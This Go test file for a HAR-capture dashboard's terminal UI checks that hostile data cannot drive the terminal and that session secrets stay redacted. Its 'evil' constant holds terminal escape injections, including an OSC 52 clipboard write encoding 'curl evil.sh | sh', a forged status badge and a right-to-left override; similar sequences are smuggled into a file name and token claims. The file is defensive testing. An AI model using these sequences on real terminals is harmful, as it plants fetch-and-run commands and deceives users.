package ui

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	tea "charm.land/bubbletea/v2"
	"github.com/atotto/clipboard"
	"github.com/charmbracelet/x/ansi"

	"github.com/clerkscope/clerkscope/bapi"
	"github.com/clerkscope/clerkscope/internal/testjwt"
)

// evil is what an adversarial capture puts in any field: OSC 52, CSI 2J,
// OSC 0, SGR (a forged green badge), a C1 CSI and a right-to-left
// override.
const evil = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07\x1b[32mSIGNED-IN (verified)\x1b[0m\u009b2J\u202etxt.exe"

// fromData are sequences only the data holds: the dashboard's own styling
// (hex colours, borders, resets as ESC[m) never writes them.
var fromData = []string{"\x1b]", "\x07", "\x1b[2J", "\x1b[32m", "\x1b[0m", "\u009b", "\u202e"}

// checkView fails when a rendered view lets data drive the terminal: a
// sequence from the data in the view as rendered, or any control left once
// our own styling is stripped.
func checkView(t *testing.T, where, view string) {
	t.Helper()
	for _, seq := range fromData {
		if strings.Contains(view, seq) {
			t.Errorf("%s: the data's %q reaches the terminal", where, seq)
		}
	}
	plain := ansi.Strip(view)
	for i, r := range plain {
		bad := r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f ||
			r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x200e || r == 0x200f || r == 0x061c
		if r == utf8.RuneError {
			_, n := utf8.DecodeRuneInString(plain[i:])
			bad = n == 1
		}
		if bad {
			t.Errorf("%s: raw %U at %d of the stripped view", where, r, i)
			return
		}
	}
}

// hostileToken is a session token signed with the test instance's key, so
// that the request is signed in, whose header and claims carry evil.
func hostileToken(t *testing.T) string {
	tok, err := testjwt.Sign("../testdata/keys/instance-private.pem", map[string]any{"alg": "RS256", "typ": "JWT", "kid": "ins_" + evil},
		map[string]any{"sub": "user_" + evil, "sid": "sess_" + evil, "azp": "https://app.example.com/" + evil, "iss": "https://clerk.example.com",
			"o": map[string]any{"id": "org_" + evil, "slg": evil, "rol": evil}, "iat": 1795504000, "nbf": 1795503990, "exp": 1795504060, "v": 2})
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// hostileHAR writes a capture with evil in every field the dashboard shows,
// under a file name that carries it too.
func hostileHAR(t *testing.T) string {
	tok := hostileToken(t)
	h := func(name, value string) map[string]string { return map[string]string{"name": name, "value": value} }
	entry := func(started, url string, req, res []map[string]string) map[string]any {
		return map[string]any{"startedDateTime": started, "time": 10,
			"request": map[string]any{"method": "GET" + evil, "url": url, "httpVersion": "HTTP/1.1", "headers": req, "cookies": []any{}, "queryString": []any{}, "headersSize": -1, "bodySize": 0},
			"response": map[string]any{"status": 200, "statusText": "OK " + evil, "httpVersion": "HTTP/1.1", "headers": res, "cookies": []any{},
				"content": map[string]any{"size": 0, "mimeType": "text/html"}, "redirectURL": "", "headersSize": -1, "bodySize": 0},
			"cache": map[string]any{}, "timings": map[string]any{"send": 0, "wait": 10, "receive": 0}}
	}
	req := []map[string]string{h("Host", "app.example.com"), h("Sec-Fetch-Dest", "document"), h("User-Agent", evil), h("X-Evil"+evil, evil),
		h("Cookie", "__session="+tok+"; __client_uat=1795504000; __clerk_db_jwt=v"+evil+"; __clerk_db_jwt"+evil+"=v")}
	res := []map[string]string{h("x-clerk-auth-status", "signed-in"+evil), h("x-clerk-auth-reason", evil), h("x-clerk-auth-message", "msg "+evil),
		h("Set-Cookie", "__session"+evil+"=val"+evil+"; Path=/"), h("Location", "https://app.example.com/"+evil)}
	doc := map[string]any{"log": map[string]any{"version": "1.2", "creator": map[string]any{"name": "Chrome " + evil, "version": evil},
		"entries": []any{
			// A URL with controls (the SDK's URL parser refuses it), then a
			// clean one, so that the token and the lookup are judged too.
			entry("2026-11-24T07:06:40Z", "https://app.example.com/dashboard?q="+evil, req, res),
			entry("2026-11-24T07:06:40Z", "https://app.example.com/dashboard", req, res),
			entry("2026-11-24T07:06:41Z", "https://clerk.example.com/v1/client?x="+evil,
				[]map[string]string{h("Host", "clerk.example.com")}, []map[string]string{h("Content-Type", "application/json")}),
		}}}
	b, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "hostile\x1b]0;pwned\x07.har")
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestHostileCaptureView: no byte of a hostile capture or Backend API
// record drives the terminal, in any tab of any request, the banner, the
// header, the status line and the paste screen; the controls are shown
// escaped, and our own styling still renders.
func TestHostileCaptureView(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e, _ := json.Marshal(evil)
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.HasPrefix(r.URL.Path, "/v1/users/"):
			fmt.Fprintf(w, `{"object":"user","id":"user_x","first_name":%s,"last_name":%s,"primary_email_address_id":"i","email_addresses":[{"id":"i","email_address":%s}],"banned":true}`, e, e, e)
		case strings.HasPrefix(r.URL.Path, "/v1/sessions/"):
			fmt.Fprintf(w, `{"object":"session","id":"sess_x","status":%s,"user_id":"user_x"}`, e)
		default:
			w.WriteHeader(404)
			fmt.Fprintf(w, `{"errors":[{"code":"resource_not_found","message":%s}]}`, e)
		}
	}))
	defer srv.Close()
	c, err := bapi.New(bapi.Config{SecretKey: "sk_test_uiHostileKey000000000000000001", BaseURL: srv.URL})
	if err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(t, hostileHAR(t))
	cfg.Looker = bapi.NewLooker(c, 2)
	m := newApp(t, cfg, 160, 50)
	if len(m.cap.rows) != 3 {
		t.Fatalf("%d rows: %s", len(m.cap.rows), screen(m))
	}
	if m.cap.clerkOnly {
		press(t, m, "c")
	}
	// Look the session of the clean-URL request up, so that the BAPI tab
	// shows the evil record.
	m.cap.cursor = 1
	m.syncKeys() // l is enabled for a request with a session token
	_, cmd := m.Update(tea.KeyPressMsg{Code: 'l', Text: "l"})
	drive(t, m, cmd)
	if ls := m.cap.bapi.lookups[m.cap.selected()]; ls == nil || ls.result == nil || ls.result.User == nil {
		t.Fatalf("no lookup: %+v", ls)
	}
	var all strings.Builder
	for _, reveal := range []bool{false, true} {
		m.c.reveal = reveal
		for i := range m.cap.filtered {
			for tb := tab(0); tb < tabCount; tb++ {
				m.cap.cursor = i
				m.cap.choose(tb)
				// The tab shows the row once its entry is read.
				drive(t, m, m.cap.readSelected())
				m.cap.refreshDetail()
				where := fmt.Sprintf("row %d, %s tab, secrets shown %v", i, tb, reveal)
				view := m.View().Content
				checkView(t, where, view)
				all.WriteString(ansi.Strip(view))
				// The whole tab, not only what the pane shows.
				r := m.cap.rows[m.cap.filtered[i]]
				var content string
				switch tb {
				case tabVerdict:
					content = m.cap.page(tabVerdict, r, 400)
				case tabCookies:
					content = m.cap.page(tabCookies, r, 400)
				case tabToken:
					content = m.cap.page(tabToken, r, 400)
				case tabTimeline:
					content = m.cap.page(tabTimeline, r, 400)
				case tabBAPI:
					content = m.cap.page(tabBAPI, r, 400)
				case tabRaw:
					content = m.cap.page(tabRaw, r, 400)
				}
				checkView(t, where+" (whole)", content)
				all.WriteString(ansi.Strip(content))
			}
		}
	}
	for _, want := range []string{`\x1b]52;c;`, `\x1b[32mSIGNED-IN (verified)`, `\u009b2J`, `\u202etxt.exe`} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("the data's controls are not shown escaped: no %q", want)
		}
	}
	if !strings.Contains(m.View().Content, "\x1b[") {
		t.Error("the dashboard's own styling is gone")
	}
	// A hostile paste on the paste screen.
	p := newApp(t, testConfig(t, ""), 120, 40)
	p.Update(tea.PasteMsg{Content: "Cookie: __session=x" + evil + "\nUser-Agent: " + evil})
	checkView(t, "paste screen", p.View().Content)
}

// TestSecretsHiddenOnScreen: the bundled dev capture's secrets, suffixed
// ones included (__clerk_db_jwt_g8uPP8vT), are in no tab (Raw above all)
// until s shows them.
func TestSecretsHiddenOnScreen(t *testing.T) {
	m := newApp(t, testConfig(t, "../testdata/har/e-dev-instance.har"), 120, 40)
	var secrets []string
	add := func(name, value string) {
		secret := false
		for _, fam := range []string{"__session", "__refresh", "__clerk_db_jwt", "__clerk_handshake", "__client", "__dev_session"} {
			secret = secret || name == fam || strings.HasPrefix(name, fam+"_") && !strings.HasPrefix(name, "__client_uat")
		}
		if !secret || len(value) < 8 {
			return
		}
		if parts := strings.Split(value, "."); len(parts) == 3 {
			if strings.HasPrefix(name, "__clerk_handshake") {
				secrets = append(secrets, parts[1])
			}
			value = parts[2]
		}
		secrets = append(secrets, value)
	}
	for _, r := range m.cap.rows {
		e := r.judged().Entry
		for _, ck := range append(e.Request.Cookies, e.Response.Cookies...) {
			add(ck.Name, ck.Value)
		}
		if u, err := url.Parse(e.Request.URL); err == nil {
			for name, vs := range u.Query() {
				if strings.HasPrefix(name, "__") {
					add(name, vs[0])
				}
			}
		}
	}
	if !strings.Contains(strings.Join(secrets, " "), "dvb_") || len(secrets) < 4 {
		t.Fatalf("secrets not found: %q", secrets)
	}
	sawSuffixed := false
	for _, r := range m.cap.rows {
		raw := m.cap.page(tabRaw, r, 100000)
		sawSuffixed = sawSuffixed || strings.Contains(raw, "__clerk_db_jwt_g8uPP8vT=‹redacted#")
		for name, content := range map[string]string{"Raw": raw, "Cookies": m.cap.page(tabCookies, r, 100000), "Token": m.cap.page(tabToken, r, 100000), "Verdict": m.cap.page(tabVerdict, r, 100000)} {
			for _, s := range secrets {
				if strings.Contains(content, s) {
					t.Errorf("entry %d, %s tab: secret %.20s… shown", r.judged().Entry.Index, name, s)
				}
			}
		}
	}
	if !sawSuffixed {
		t.Error("the Raw tab does not show __clerk_db_jwt_g8uPP8vT redacted")
	}
	m.c.reveal = true
	var shown strings.Builder
	for _, r := range m.cap.rows {
		shown.WriteString(m.cap.page(tabRaw, r, 100000))
	}
	if !strings.Contains(shown.String(), "__clerk_db_jwt_g8uPP8vT=dvb_") {
		t.Error("s must still show the secrets")
	}
}

// TestCopyFallbackIsPrivate: with no system clipboard, a copy (a live token,
// perhaps) is saved in a file only its owner can read.
func TestCopyFallbackIsPrivate(t *testing.T) {
	was := clipboard.Unsupported
	clipboard.Unsupported = true
	defer func() { clipboard.Unsupported = was }()
	dir := t.TempDir()
	msg := copyLocal("session token", "eyJ.secret", dir)
	_, saved, ok := strings.Cut(msg.how, "also saved to ")
	if msg.err != nil || !ok {
		t.Fatalf("%+v", msg)
	}
	st, err := os.Stat(saved)
	if err != nil || filepath.Dir(saved) != dir {
		t.Fatalf("saved to %q: %v", saved, err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("copy file mode %v, want 0600", st.Mode().Perm())
	}
}

// lockedBuffer is a bytes.Buffer the program's renderer and the test share.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// TestCancelRestoresTerminal: what SIGHUP, SIGINT and SIGTERM do to the
// dashboard (main cancels its context) ends the program and leaves the
// terminal as it was: the alternate screen left, the mouse off.
func TestCancelRestoresTerminal(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	out := &lockedBuffer{}
	in, inW := io.Pipe()
	defer inW.Close()
	opts := append(programOptions(ctx), tea.WithInput(in), tea.WithOutput(out), tea.WithWindowSize(100, 30),
		tea.WithEnvironment([]string{"TERM=xterm-256color"}))
	p := tea.NewProgram(New(ctx, testConfig(t, "../testdata/har/a-signed-in-happy.har")), opts...)
	done := make(chan error, 1)
	go func() { _, err := p.Run(); done <- err }()
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(out.String(), ansi.SetModeAltScreenSaveCursor) {
		if time.Now().After(deadline) {
			t.Fatal("the dashboard never entered the alternate screen")
		}
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(100 * time.Millisecond)
	cancel()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("the dashboard did not stop on a cancelled context")
	}
	got := out.String()
	tail := got[strings.LastIndex(got, ansi.SetModeAltScreenSaveCursor):]
	for name, seq := range map[string]string{"leave the alternate screen": ansi.ResetModeAltScreenSaveCursor, "mouse off": ansi.ResetModeMouseButtonEvent} {
		if !strings.Contains(tail, seq) {
			t.Errorf("not restored: %s (%q)", name, seq)
		}
	}
}
